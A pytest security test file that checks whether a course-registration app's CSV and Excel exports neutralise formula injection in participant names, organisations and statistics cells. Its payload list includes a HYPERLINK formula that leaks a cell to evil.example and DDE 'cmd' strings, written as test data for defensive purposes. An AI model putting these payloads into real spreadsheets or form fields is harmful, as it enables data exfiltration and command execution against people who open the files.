"""Attack (issue 8, item 5): formula injection. A participant's name, typed into the register form
or into the sign-up sheet the organiser imports, starts with `=`, `+`, `-` or `@`; the organiser
exports the list and opens it in Excel. The formula must arrive as text: in CSV behind a leading
quote (OWASP), in .xlsx as a string cell, never as a formula cell.
"""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pandas as pd
import pytest
from openpyxl import load_workbook

from db import attendance, courses, participants
from model.access import Role
from model.course_exports import attendance_csv, attendance_xlsx
from model.courses import CourseDraft
from model.participant_import import preview_import
from pages.components import exports
from tests.security.actors import logged_in, root_admin

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A3,"Klik her")'
FORMULAS = [HYPERLINK, "+45 22334455", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", " =1+1", "＝1+1"]


@pytest.fixture
def course(fresh_db):
    """An organiser of Nordsjælland, logged in, and a planned course of theirs."""
    organiser = logged_in(root_admin(), "kursus.nsj@example.com", Role.COURSE_ORGANISER, "NSJ").scope
    draft = CourseDraft("NSJ", pd.Timestamp(date.today() + timedelta(days=30)).to_pydatetime(),
                        "Politigården, Helsingør", 30, "Projektgruppen", "2018")
    return organiser, courses.create_course(organiser, draft, "security-course")


def exported(organiser, course_id: int, kind: str) -> bytes:
    heading, people, export_id = attendance.export_participants(organiser, course_id, kind)
    return (attendance_csv if kind == "csv" else attendance_xlsx)(heading, people, export_id)


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_a_participant_named_as_a_formula_is_quoted_text_in_the_csv_export(course):
    organiser, course_id = course
    for i, name in enumerate(FORMULAS):
        participants.register(organiser, course_id, name=name, email=f"p{i}@example.com",
                              organisation=name, role="studievejleder")
    rows = csv_cells(exported(organiser, course_id, "csv"))
    names = sorted(row[0] for row in rows[2:])
    assert names == sorted("'" + " ".join(n.split()) for n in FORMULAS)
    assert all(row[2].startswith("'") for row in rows[2:])


def test_a_participant_named_as_a_formula_is_a_string_cell_in_the_excel_export(course):
    organiser, course_id = course
    participants.register(organiser, course_id, name=HYPERLINK, email="p@example.com",
                          role="studievejleder")
    sheet = load_workbook(io.BytesIO(exported(organiser, course_id, "xlsx"))).active
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == HYPERLINK)
    assert cell.data_type == "s"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_a_formula_smuggled_in_through_a_sign_up_sheet_is_text_in_every_export(course):
    organiser, course_id = course
    sheet = ("Navn;E-mail;Rolle;Organisation\r\n"
             f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}";a@example.com;SSP;"Skolen;=1+1"\r\n'
             "@SUM(1+1);b@example.com;Lærer;=2+2\r\n").encode()
    preview = preview_import(sheet, "tilmelding.csv", capacity=30, registered=0, waiting=0)
    participants.import_participants(organiser, course_id, preview)
    rows = csv_cells(exported(organiser, course_id, "csv"))
    assert sorted((r[0], r[2]) for r in rows[2:]) == [("'" + HYPERLINK, "Skolen;'=1+1"),
                                                      ("'@SUM(1+1)", "'=2+2")]
    book = load_workbook(io.BytesIO(exported(organiser, course_id, "xlsx")))
    assert not [c for row in book.active.iter_rows() for c in row if c.data_type == "f"]


def test_a_separator_inside_a_cell_cannot_start_a_new_cell_holding_a_formula(course):
    organiser, course_id = course
    participants.register(organiser, course_id, name="Anne Andersen", email="a@example.com",
                          organisation="Skolen,=1+1;=2+2", role="studievejleder")
    text = exported(organiser, course_id, "csv").decode("utf-8-sig")
    for delimiter in ";,":  # as Danish Excel splits it, and as Excel with a comma list separator
        cells = [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
        assert not [c for c in cells if c.lstrip().startswith(("=", "+", "-", "@"))]


def test_a_statistics_table_cell_that_looks_like_a_formula_is_exported_as_text():
    table = pd.DataFrame({"Platform": [HYPERLINK, "Snapchat"], "Antal": [12, 30]})
    rows = csv_cells(exports.table_bytes(table, "csv", "Platforme", "ABCD"))
    assert rows[2] == ["'" + HYPERLINK, "12"]
    book = load_workbook(io.BytesIO(exports.table_bytes(table, "xlsx", "Platforme", "ABCD")))
    cell = book["Tal"]["A2"]
    assert (cell.value, cell.data_type) == (HYPERLINK, "s")
